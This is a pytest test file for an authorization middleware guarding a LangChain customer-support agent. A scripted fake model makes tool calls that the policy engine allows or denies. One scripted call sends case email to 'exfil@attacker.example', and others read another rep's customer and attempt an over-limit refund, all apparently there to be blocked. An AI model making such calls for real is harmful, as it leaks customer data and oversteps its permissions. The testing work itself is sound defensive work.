"""End-to-end: a LangChain agent over the policies-examples/support-agent bundle.

A scripted fake chat model (no network) drives a support assistant acting for
the rep `sam` on case CASE-5512. Tools map to the bundle's actions; the
resource comes from the tool arguments or from the run's context. Denied tools
never run, allowed ones do, and the model sees the reasons.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

import pytest
from langchain.agents import create_agent
from langchain_core.messages import AIMessage, BaseMessage, HumanMessage, ToolMessage
from langchain_core.tools import tool
from test_langchain import ScriptedModel, call

from agentauthz import Engine
from agentauthz.langchain import AuthorizationMiddleware

from conftest import REPO

BUNDLE = REPO / "policies-examples" / "support-agent"
engine = Engine.load(BUNDLE, trust_caller_time=True)
executed: list[tuple[str, dict[str, Any]]] = []


@tool
def read_customer(customer_id: str) -> str:
    """Read a customer's CRM record."""
    executed.append(("read_customer", {"customer_id": customer_id}))
    return f"<CRM record of {customer_id}>"


@tool
def send_email(to: str, subject: str, body: str) -> str:
    """E-mail the customer of the current case."""
    executed.append(("send_email", {"to": to, "subject": subject}))
    return f"sent to {to}"


@tool
def refund(amount: str, currency: str, reason: str) -> str:
    """Refund part of the case's order (amount as a decimal string, e.g. "12.50")."""
    executed.append(("refund", {"amount": amount, "currency": currency}))
    return f"refunded {amount} {currency}"


@dataclass
class Case:
    """The run's context: who the assistant works for, on which case and order."""

    rep: str
    task: str
    customer: str
    order: str


ACTIONS = {
    "read_customer": "crm:read-customer",
    "send_email": "email:send",
    "refund": "billing:refund",
}


def resource(request: Any) -> tuple[str, str]:
    case: Case = request.runtime.context
    name, args = request.tool_call["name"], request.tool_call["args"]
    if name == "read_customer":
        return ("Customer", args["customer_id"])
    if name == "send_email":
        return ("Customer", case.customer)
    return ("Order", case.order)


MIDDLEWARE = AuthorizationMiddleware(
    engine,
    agent="helpdesk-assistant",
    action=lambda r: ACTIONS[r.tool_call["name"]],
    resource=resource,
    # crm:read-customer declares no context; the other tools' arguments are the input.
    input=lambda r: None if r.tool_call["name"] == "read_customer" else r.tool_call["args"],
    on_behalf_of=lambda r: r.runtime.context.rep,
    task=lambda r: r.runtime.context.task,
    credential="helpdesk-oauth",
    now="2026-11-29T10:00:00Z",
)
CASE = Case(rep="sam", task="CASE-5512", customer="c-1001", order="o-5001")


def script() -> list[BaseMessage]:
    mail = {"subject": "Your duplicate charge", "body": "We are refunding it."}
    return [
        AIMessage(content="", tool_calls=[call("read_customer", "r1", customer_id="c-1001")]),
        AIMessage(content="", tool_calls=[call("read_customer", "r2", customer_id="c-3001")]),
        AIMessage(
            content="",
            tool_calls=[
                call("send_email", "m1", to="billing@northwind.example", **mail),
                call("send_email", "m2", to="exfil@attacker.example", **mail),
            ],
        ),
        AIMessage(
            content="",
            tool_calls=[call("refund", "f1", amount="250.00", currency="EUR", reason="dup")],
        ),
        AIMessage(
            content="",
            tool_calls=[call("refund", "f2", amount="40.00", currency="EUR", reason="dup")],
        ),
        AIMessage(content="Refunded 40.00 EUR and told the customer."),
    ]


EXPECTED_RUNS = [
    ("read_customer", {"customer_id": "c-1001"}),
    ("send_email", {"to": "billing@northwind.example", "subject": "Your duplicate charge"}),
    ("refund", {"amount": "40.00", "currency": "EUR"}),
]
EXPECTED_DENIALS = {
    "r2": [],  # Initech is pat's customer, not sam's: no permit applies
    "m2": ["support/email-only-to-customer-address"],
    "f1": ["support/refund-limit", "support/refund-within-order-total"],
}


@pytest.fixture(autouse=True)
def _clear() -> None:
    executed.clear()


def check(model: ScriptedModel, result: dict[str, Any]) -> None:
    assert executed == EXPECTED_RUNS
    tool_messages = {m.tool_call_id: m for m in result["messages"] if isinstance(m, ToolMessage)}
    assert set(tool_messages) == {"r1", "r2", "m1", "m2", "f1", "f2"}
    for call_id, reasons in EXPECTED_DENIALS.items():
        m = tool_messages[call_id]
        assert m.status == "error"
        assert m.artifact["reasons"] == reasons
        for reason in reasons:
            assert reason in str(m.content)
    for call_id in ("r1", "m1", "f2"):
        assert tool_messages[call_id].status == "success"
    # The model's prompt after the refused refund shows it why.
    f1 = [m for m in model.prompts[4] if isinstance(m, ToolMessage) and m.tool_call_id == "f1"]
    assert f1 and "support/refund-limit" in str(f1[0].content)
    assert result["messages"][-1].content == "Refunded 40.00 EUR and told the customer."


def agent(model: ScriptedModel) -> Any:
    return create_agent(
        model,
        tools=[read_customer, send_email, refund],
        middleware=[MIDDLEWARE],
        context_schema=Case,
    )


def test_support_agent_run_sync() -> None:
    model = ScriptedModel(responses=script(), prompts=[])
    result = agent(model).invoke({"messages": [HumanMessage("Sort out case 5512")]}, context=CASE)
    check(model, result)


@pytest.mark.asyncio
async def test_support_agent_run_async() -> None:
    model = ScriptedModel(responses=script(), prompts=[])
    result = await agent(model).ainvoke(
        {"messages": [HumanMessage("Sort out case 5512")]}, context=CASE
    )
    check(model, result)


def test_another_reps_case_is_refused() -> None:
    # The same script for riley's case: the task belongs to riley, the customer to sam.
    model = ScriptedModel(responses=script(), prompts=[])
    other = Case(rep="riley", task="CASE-5520", customer="c-1001", order="o-5001")
    result = agent(model).invoke({"messages": [HumanMessage("go")]}, context=other)
    assert executed == []
    assert all(m.status == "error" for m in result["messages"] if isinstance(m, ToolMessage))
